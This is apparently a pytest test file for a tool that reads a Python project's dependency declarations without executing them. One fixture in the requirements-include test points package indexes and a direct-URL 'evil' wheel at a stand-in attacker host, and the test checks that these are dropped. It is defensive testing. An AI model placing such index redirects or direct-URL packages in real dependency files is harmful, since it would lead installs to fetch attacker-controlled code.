"""What a project needs, read from its files alone (nothing of it runs)."""

from __future__ import annotations

import textwrap
from pathlib import Path

from fixloop.project import find_project_root
from fixloop.sandbox.commands import with_tests
from fixloop.sandbox.requirements import find_requirements, source_paths


def write(root: Path, name: str, text: str) -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def test_pyproject_dependencies_test_extras_and_groups(tmp_path: Path) -> None:
    write(
        tmp_path,
        "pyproject.toml",
        """
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"
        [project]
        name = "shop"
        requires-python = ">=3.9"
        dependencies = ["requests>=2", "attrs"]
        [project.optional-dependencies]
        tests = ["pytest>=7", "shop[fast]"]
        docs = ["sphinx"]
        [dependency-groups]
        lint = ["ruff"]
        dev = ["pytest-mock", {include-group = "lint"}]
        """,
    )
    found = find_requirements(tmp_path)
    assert found.lines == ("requests>=2", "attrs", "pytest>=7", "pytest-mock", "ruff")
    assert found.project_name == "shop" and found.requires_python == ">=3.9"
    assert found.build_requires == ("hatchling",)
    assert "sphinx" not in found.lines  # docs are not what the tests need


def test_requirement_files_follow_includes_and_drop_index_options(tmp_path: Path) -> None:
    write(tmp_path, "requirements.txt", "six==1.16.0  # pinned\n-r requirements/more.txt\n")
    write(
        tmp_path,
        "requirements/more.txt",
        """
        --index-url http://attacker.invalid/simple
        --extra-index-url http://attacker.invalid/other
        -e .
        markupsafe>=2
        evil @ http://attacker.invalid/evil.whl
        """,
    )
    found = find_requirements(tmp_path)
    assert found.lines == ("six==1.16.0", "markupsafe>=2")
    assert any("evil" in note and "direct URL" in note for note in found.notes)
    assert "attacker" not in " ".join(found.lines)


def test_setup_py_is_parsed_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    write(
        tmp_path,
        "setup.py",
        f"""
        open({str(marker)!r}, "w").write("setup.py ran")
        from setuptools import setup
        setup(
            name="legacy",
            install_requires=["six"],
            extras_require={{"test": ["pytest"], "docs": ["sphinx"]}},
            python_requires=">=3.8",
        )
        """,
    )
    found = find_requirements(tmp_path)
    assert found.lines == ("six", "pytest")
    assert found.project_name == "legacy" and found.requires_python == ">=3.8"
    assert found.build_requires == ("setuptools>=40.8.0", "wheel")
    assert not marker.exists()


def test_setup_cfg_and_a_lock_file_pin_versions(tmp_path: Path) -> None:
    write(
        tmp_path,
        "setup.cfg",
        """
        [metadata]
        name = cfgproj
        [options]
        package_dir =
            =lib
        install_requires =
            attrs
        [options.extras_require]
        testing = pytest
        """,
    )
    (tmp_path / "lib").mkdir()
    write(
        tmp_path,
        "uv.lock",
        """
        [[package]]
        name = "attrs"
        version = "23.2.0"
        source = { registry = "https://pypi.org/simple" }
        [[package]]
        name = "cfgproj"
        version = "0.1"
        source = { editable = "." }
        """,
    )
    found = find_requirements(tmp_path)
    assert found.lines == ("attrs", "pytest")
    assert found.constraints == ("attrs==23.2.0",)  # the project itself is no download
    assert found.source_paths == ("lib",)


def test_the_projects_own_virtualenv_gives_exact_versions(tmp_path: Path) -> None:
    write(tmp_path, "pyproject.toml", '[project]\nname = "mine"\ndependencies = ["six"]\n')
    site = tmp_path / ".venv" / "lib" / "python3.11" / "site-packages"
    write(tmp_path, ".venv/pyvenv.cfg", "version = 3.11.7\n")
    for name in ("six-1.16.0", "Markup_Safe-2.1.5", "pip-24.0", "mine-0.1", "local-1.0"):
        (site / f"{name}.dist-info").mkdir(parents=True)
    write(site, "Markup_Safe-2.1.5.dist-info/METADATA", "Name: MarkupSafe\nVersion: 2.1.5\n\n")
    write(site, "local-1.0.dist-info/direct_url.json", '{"url": "file:///home/me/local"}')
    found = find_requirements(tmp_path)
    assert found.lines == ("MarkupSafe==2.1.5", "six==1.16.0")
    assert "virtual environment .venv" in found.source
    assert any("local" in note and "file:///home/me/local" in note for note in found.notes)


def test_source_paths_src_layout_and_declared(tmp_path: Path) -> None:
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    (tmp_path / "src" / "pkg" / "__init__.py").write_text("")
    assert source_paths(tmp_path) == ("src",)
    flat = tmp_path / "flat"
    (flat / "pkg").mkdir(parents=True)
    (flat / "pkg" / "__init__.py").write_text("")
    assert source_paths(flat) == ()
    write(
        flat,
        "pyproject.toml",
        '[tool.setuptools.packages.find]\nwhere = ["code"]\n',
    )
    (flat / "code").mkdir()
    assert source_paths(flat) == ("code",)


def test_digest_changes_with_the_dependency_files(tmp_path: Path) -> None:
    path = write(tmp_path, "requirements.txt", "six\n")
    first = find_requirements(tmp_path).digest()
    assert find_requirements(tmp_path).digest() == first
    path.write_text("six\nattrs\n")
    assert find_requirements(tmp_path).digest() != first


def test_project_root_is_the_nearest_marked_folder(tmp_path: Path) -> None:
    write(tmp_path, "pyproject.toml", "")
    source = write(tmp_path, "src/pkg/mod.py", "")
    assert find_project_root(source) == tmp_path
    assert find_project_root(tmp_path / "src") == tmp_path
    lone = tmp_path.parent / f"{tmp_path.name}-lone"
    lone.mkdir()
    assert find_project_root(lone) == lone


def test_narrowing_drops_the_paths_the_command_names() -> None:
    assert (
        with_tests("python -m pytest -q tests/ -k 'not slow'", ["tests/test_a.py::test_x"])
        == "python -m pytest -q -k 'not slow' tests/test_a.py::test_x"
    )
    assert with_tests("npm test", ["a"]) == "npm test"
    assert with_tests("pytest -p no:cov", ["t.py::x[1-2]"]) == "pytest -p no:cov 't.py::x[1-2]'"


def test_the_test_command_is_detected_from_test_files_below_the_root(tmp_path: Path) -> None:
    from fixloop.testcommand import detect_test_command

    write(tmp_path, "pyproject.toml", "[project]\nname = 'x'\n")
    write(tmp_path, "lib/x.py", "")
    assert detect_test_command(tmp_path) is None
    write(tmp_path, ".venv/lib/test_venv.py", "")  # a virtualenv's files are not the tests
    write(tmp_path, ".venv/pyvenv.cfg", "")
    assert detect_test_command(tmp_path) is None
    write(tmp_path, "src/x/testing/unit/parser_test.py", "")
    assert detect_test_command(tmp_path) == "python -m pytest -q"
    assert detect_test_command(tmp_path, "tox -e py311") == "tox -e py311"


def test_feature_extras_are_optional_and_tox_deps_count(tmp_path: Path) -> None:
    write(
        tmp_path,
        "pyproject.toml",
        """
        [project]
        name = "conv"
        dependencies = ["attrs"]
        [project.optional-dependencies]
        msgpack = ["msgpack>=1"]
        yaml = ["PyYAML>=6"]
        docs = ["sphinx"]
        lint = ["ruff"]
        """,
    )
    write(
        tmp_path,
        "tox.ini",
        """
        [testenv]
        deps =
            pytest>=7
            freezegun
            -r requirements/extra.txt
        commands = pytest
        """,
    )
    write(tmp_path, "requirements/extra.txt", "hypothesis\n")
    found = find_requirements(tmp_path)
    assert found.lines == ("attrs", "pytest>=7", "freezegun", "hypothesis")
    # What the tests may exercise, installed when every one of them can be.
    assert found.optional == ("msgpack>=1", "PyYAML>=6")
    assert tmp_path / "tox.ini" in found.files
